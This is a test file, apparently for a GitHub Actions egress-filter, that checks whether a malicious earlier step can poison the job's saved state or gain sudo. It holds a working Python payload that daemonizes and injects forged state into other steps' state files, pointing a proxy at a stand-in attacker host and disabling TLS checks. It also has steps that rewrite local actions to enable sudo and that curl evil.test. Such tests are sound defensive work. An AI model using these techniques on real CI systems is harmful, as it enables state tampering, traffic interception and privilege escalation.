import { beforeAll, describe, expect, test } from 'vitest';
import { compositeAction, nodeAction } from '../runner/fixtures/node-action.ts';
import { type JobResult, reached, runJob, transcript, WORLD } from '../runner/runner.ts';

/**
 * Left behind by the `pre` of an action: gives every step that comes the state of its choice, by the file in which a step leaves state for its own later
 * stages. The one of this action's main is among them.
 */
const POISON = `
import glob, json, os, time
if os.fork(): os._exit(0)
os.setsid()
null = os.open('/dev/null', os.O_RDWR)
for fd in (0, 1, 2): os.dup2(null, fd)
state = {'id': '00c0ffee', 'since': '2026-01-31T12:00:00.000Z', 'log': '/etc/hostname', 'audit': True, 'default': 'allow', 'rules': 0, 'onDeny': 'log',
    'uploadLog': True, 'policyHash': '', 'network': {'https_proxy': 'http://${WORLD.evil}:9999', 'NODE_TLS_REJECT_UNAUTHORIZED': '0'}}
seen = set()
for _ in range(20000):
    for path in glob.glob('/home/runner/work/_temp/_runner_file_commands/save_state_*'):
        if path in seen: continue
        seen.add(path)
        try: open(path, 'a').write('job<<E\\n' + json.dumps(state) + '\\nE\\n')
        except OSError: pass
    # In one step: whoever reads meanwhile sees one number or the other.
    open('/home/runner/work/_temp/poisoned.new', 'w').write(str(len(seen)))
    os.rename('/home/runner/work/_temp/poisoned.new', '/home/runner/work/_temp/poisoned')
    time.sleep(0.002)
`;

/** What an earlier step makes of an action of the workspace, which the workflow uses later on. */
const OPENS_SUDO = compositeAction([{ uses: 'owner/egress-filter/enable-sudo@v1' }])['action.yml'] ?? '';

describe('files of the runner that belong to the job’s user', () => {
  let job: JobResult;
  beforeAll(async () => {
    job = await runJob({
      action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
      actions: {
        'acme/poison@v1': nodeAction({
          pre: `require('node:child_process').spawnSync('python3', ['-c', ${JSON.stringify(POISON)}], { env: {} });
            while (!require('node:fs').existsSync('/home/runner/work/_temp/poisoned'));`,
        }),
      },
      workspace: {
        '.github/actions/build/action.yml': compositeAction([{ run: 'true' }])['action.yml'] ?? '',
        '.github/actions/named/action.yml': compositeAction([{ run: 'true' }])['action.yml'] ?? '',
      },
      steps: [
        { name: 'poison', uses: 'acme/poison@v1' },
        {
          name: 'rewrite',
          env: { OPENS_SUDO },
          run: 'for name in build named; do printf %s "$OPENS_SUDO" >.github/actions/$name/action.yml; done; cat /home/runner/work/_temp/poisoned',
        },
        { name: 'local', uses: './.github/actions/build', continueOnError: true },
        { name: 'local with an id', id: 'named', uses: './.github/actions/named', continueOnError: true },
        { name: 'root', run: 'sudo -n id && echo GOT ROOT; curl -sS -m 60 https://evil.test/ || true' },
      ],
    });
  });

  test('an action that an earlier step has rewritten does not open sudo, though it has enable-sudo run', () => {
    for (const name of ['local', 'local with an id']) {
      expect(job.step(name).outcome, transcript(job)).toBe('failure');
      expect(job.step(name).log).toContain('refused');
    }
    expect(job.step('root').log).not.toContain('GOT ROOT');
    expect(job.log.filter(({ reason }) => reason?.startsWith('sudo was opened'))).toEqual([]);
  });

  test('state that somebody else wrote for post changes neither what is reported nor where it is sent', () => {
    expect(Number(job.step('rewrite').log)).toBeGreaterThan(1);
    expect(job.conclusion, transcript(job)).toBe('failure');
    expect(job.step(/^Post owner/).log, transcript(job)).toContain('on-deny is fail-job');
    expect(job.page).toContain('evil.test');
    expect(job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
    expect(reached(job, WORLD.evil)).toEqual([]);
  });
});
